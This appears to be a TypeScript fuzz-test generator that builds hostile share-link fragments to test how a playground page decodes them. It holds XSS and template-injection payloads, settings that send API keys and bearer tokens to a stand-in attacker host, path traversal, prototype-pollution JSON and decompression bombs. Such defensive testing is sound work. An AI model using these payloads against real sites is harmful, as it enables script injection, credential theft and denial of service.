import { deflateRawSync } from 'node:zlib'

import fc from 'fast-check'

import { anyCharacter } from '../../service/testing/fuzz/arbitraries.ts'
import { DICTIONARY_V1 } from '../../src/core/share/shared-content.ts'

/*
 * Links as somebody would write them who wants a page to do something by being opened: fragments that
 * carry values no setup has, setups that cost or hide something, addresses to send things to, bombs,
 * and fragments that are nothing at all.
 */

const ATTACKER = 'https://attacker.example'
const dictionary = Buffer.from(DICTIONARY_V1)

/** Any text as a fragment that this page would have to read. */
export function fragmentOf(json: string): string {
  return packed(Buffer.from(json), 6)
}

function packed(content: Buffer, level: number): string {
  return `#c=1.${deflateRawSync(content, { level, dictionary }).toString('base64url')}`
}

/** So many MiB of zeros. */
function bomb(mebibytes: number): string {
  return packed(Buffer.alloc(mebibytes * 1024 * 1024), 9)
}

const text = fc.oneof(
  fc.constantFrom(
    '<img src=x onerror=alert(1)>',
    `![x](${ATTACKER}/?q=secret)`,
    'javascript:alert(1)',
    `[press](${ATTACKER})`,
    '\u202Egnp.exe\u2066\u200B',
    '\ud800lone',
    '\u0000\u0007\u001B[31m',
    '{{constructor.constructor("alert(1)")()}}',
    '"><script>alert(1)</script>',
    `/fail 500\n/tokens 100000`,
  ),
  fc.string({ unit: anyCharacter, maxLength: 60 }),
  // Any UTF-16, lone surrogates included.
  fc
    .array(fc.nat(0xffff), { maxLength: 40 })
    .map((units) => units.map((unit) => String.fromCharCode(unit)).join('')),
)

const json = fc.jsonValue({ maxDepth: 3 })

/** Members with which other playgrounds let a link say where to, with what, and when. */
const transport = fc.dictionary(
  fc.constantFrom(
    ...(
      'baseUrl base_url apiUrl settings key apiKey headers connection wallet payTo ' +
      'providerName theme autoSend send submit run redirect storage localStorage caps ' +
      'credential callback next connect'
    ).split(' '),
  ),
  fc.constantFrom<unknown>(
    ATTACKER,
    true,
    { url: ATTACKER, key: 'sk-0123456789abcdef0123456789abcdef' },
    '{"key":"sk-0123456789abcdef0123456789abcdef","url":"https://attacker.example"}',
    { Authorization: 'Bearer 0123456789abcdef0123456789abcdef' },
  ),
  { maxKeys: 4 },
)

const costly = fc.record(
  {
    n: fc.constantFrom(1, 128, 1e9, -1),
    max_completion_tokens: fc.constantFrom(1e6, 2 ** 53, 'all'),
    temperature: fc.constantFrom(2, 1e308, 'hot', null),
    stream: fc.boolean(),
    tools: json,
    response_format: json,
    metadata: json,
    vendor_parameters: fc.oneof(
      json,
      fc.constant({ enable_web_search: 'on', enable_web_scraping: true, character_slug: '../..' }),
      transport,
    ),
  },
  { requiredKeys: [] },
)

const part = fc.oneof(
  text.map((words) => ({ type: 'text', text: words })),
  fc.constantFrom(
    { type: 'image_url', image_url: { url: `${ATTACKER}/pixel.png` } },
    { type: 'image_url', image_url: { url: 'data:image/svg+xml,<svg onload=alert(1)>' } },
    { type: 'video_url', video_url: { url: `${ATTACKER}/film.mp4` } },
    { type: 'file', file: { file_data: `${ATTACKER}/page.html`, filename: '../../etc/passwd' } },
    { type: 'input_audio', input_audio: { data: 'AAAA', format: 'wav' } },
  ),
  json,
)

const message = fc.oneof(
  fc.record({
    role: fc.constantFrom('user', 'system', 'developer', 'assistant', 'tool', 'owner'),
    content: fc.oneof(text, fc.array(part, { maxLength: 3 }), json),
    tool_calls: fc.constantFrom(undefined, [
      { id: '1', type: 'function', function: { name: 'pay', arguments: '{"to":"attacker"}' } },
    ]),
  }),
  json,
)

const slot = fc.oneof(
  fc.record({
    message: fc.constantFrom(0, 1, 1999, -1, 1e9),
    part: fc.constantFrom(0, 999, 2 ** 31),
    kind: fc.constantFrom('image_url', 'file', 'script'),
    name: text,
  }),
  json,
)

const chat = fc.record({
  area: fc.constant('chat'),
  model: fc.oneof(text, fc.constantFrom('sandbox-large', ATTACKER, 7)),
  settings: fc.oneof(costly, transport, json),
  messages: fc.oneof(fc.array(message, { maxLength: 6 }), json),
  attachments: fc.oneof(fc.constant([]), fc.array(slot, { maxLength: 4 }), json),
})

/** A chat that opens, whatever it would then do. */
const openingChat = fc.record({
  area: fc.constant('chat'),
  model: fc.constantFrom('sandbox-large', ATTACKER, '\u202Egnp'),
  settings: fc.oneof(costly, transport),
  messages: fc.array(message, { maxLength: 6 }),
  attachments: fc.constant([]),
})

const image = fc.record({
  area: fc.constant('image'),
  fields: fc.oneof(
    transport,
    fc.record({ image: fc.constant(`${ATTACKER}/a.png`), prompt: text, model: text }),
    json,
  ),
})

const explore = fc.record({
  area: fc.constant('explore'),
  method: fc.constantFrom('GET', 'POST', 'DELETE', 'CONNECT', 'get'),
  path: fc.oneof(
    text,
    fc.constantFrom(
      ...'//attacker.example/ /\\attacker.example /../../local/faucet /x402/top-up'.split(' '),
      ...'/%2e%2e/%2e%2e/local/allow-origin /a#b /a?b=//c /chat/completions'.split(' '),
    ),
  ),
  body: fc.oneof(text, fc.constant('{"model":"sandbox-large","messages":[]}'), json),
  form: fc.constantFrom(undefined, true, 'yes'),
})

/** A call that opens, one of those that cost or destroy. */
const openingExplore = fc.record({
  area: fc.constant('explore'),
  method: fc.constantFrom('GET', 'POST', 'DELETE'),
  path: fc.constantFrom('/x402/top-up', '/chat/completions', '/api_keys', '/models?a=//b'),
  body: fc.oneof(text, fc.constant('{"model":"sandbox-large","messages":[]}')),
})

/** JSON as text, which can say what no object of this program can. */
const rawJson = fc.oneof(
  fc.constantFrom(
    '{"area":"chat","__proto__":{"polluted":true}}',
    '{"area":"chat","model":"m","settings":{"__proto__":{"polluted":true}},"messages":[],"attachments":[]}',
    '{"area":"chat","model":"m","settings":{"constructor":{"prototype":{"polluted":1}}},"messages":[],"attachments":[]}',
    '{"area":"image","fields":{"prompt":"x","prompt":"y","toString":"z"}}',
    '{"area":"explore","area":"chat","method":"POST","path":"/models"}',
    '{"area":"chat","model":"\\ud800","settings":{},"messages":[],"attachments":[]}',
    `${'['.repeat(20_000)}${']'.repeat(20_000)}`,
    `{"area":"chat","model":"m","settings":{"deep":${'['.repeat(5_000)}${']'.repeat(5_000)}},"messages":[],"attachments":[]}`,
    `{"area":"chat","model":"m","settings":{${'"a":1,'.repeat(150_000)}"b":2},"messages":[],"attachments":[]}`,
    'null',
    '[]',
    '"text"',
    '1e999',
    '{"area":"settings","theme":"dark"}',
    '{"area":"wallet","payTo":"0x1"}',
  ),
  fc.string({ unit: anyCharacter, maxLength: 200 }),
  json.map((value) => JSON.stringify(value)),
)

/** What is in a fragment without having been packed by anybody. */
const rawFragment = fc.oneof(
  fc.constantFrom(
    ...(
      '#c= #c=1. #c=01.AAAA #c=2.AAAA #c=9999.AAAA #c=99999.AAAA #c=-1.AAAA ' +
      '#c=1.AAAA&key=x #c=1.%00 #c=1.AAA= #c=1.AAAA#c=1.AAAA #C=1.AAAA'
    ).split(' '),
    `#settings=${encodeURIComponent('{"key":"sk-1","url":"https://attacker.example"}')}`,
    `#/chat?apiUrl=${ATTACKER}&key=x&send=1`,
    '#:~:text=Send',
    '#main',
    `#c=1.${'A'.repeat(300_000)}`,
  ),
  fc
    .string({ unit: anyCharacter, maxLength: 80 })
    .map((junk) => `#c=1.${encodeURIComponent(junk)}`),
  fc.base64String({ maxLength: 400 }).map((junk) => `#c=1.${junk.replace(/[+/=]/g, '-')}`),
)

const withTransport = (setup: fc.Arbitrary<object>) =>
  fc
    .tuple(setup, transport)
    .map(([value, more]) => fragmentOf(JSON.stringify({ ...value, ...more })))

const hostileFragment = fc.oneof(
  { weight: 3, arbitrary: withTransport(chat) },
  { weight: 3, arbitrary: withTransport(openingChat) },
  { weight: 2, arbitrary: withTransport(image) },
  { weight: 2, arbitrary: withTransport(explore) },
  { weight: 2, arbitrary: withTransport(openingExplore) },
  { weight: 2, arbitrary: rawJson.map(fragmentOf) },
  { weight: 2, arbitrary: rawFragment },
)

/** What is too big to be made often. */
function bigFragments(): (() => string)[] {
  const many = (count: number) =>
    JSON.stringify({
      area: 'chat',
      model: 'm',
      settings: Object.fromEntries(Array.from({ length: count }, (_, at) => [`x${at}`, at])),
      messages: [],
      attachments: [],
    })
  const messages = Array.from({ length: 2_000 }, () => ({ role: 'user', content: '<img src=x>' }))
  const long = { area: 'chat', model: 'm', settings: {}, messages, attachments: [] }
  return [
    () => bomb(200),
    () => bomb(150),
    () => fragmentOf(many(1_000_000)),
    () => fragmentOf(many(50_000)),
    () => fragmentOf(JSON.stringify(long)),
    () =>
      fragmentOf(
        JSON.stringify({ ...long, messages: [{ role: 'user', content: 'x'.repeat(9e5) }] }),
      ),
  ]
}

/** What makes so many hostile fragments, the same for the same seed; the big ones are among the first. */
export function hostileFragments(count: number, seed: number): (() => string)[] {
  const made = fc.sample(hostileFragment, { numRuns: count, seed })
  return [...bigFragments(), ...made.map((fragment) => () => fragment)].slice(0, count)
}
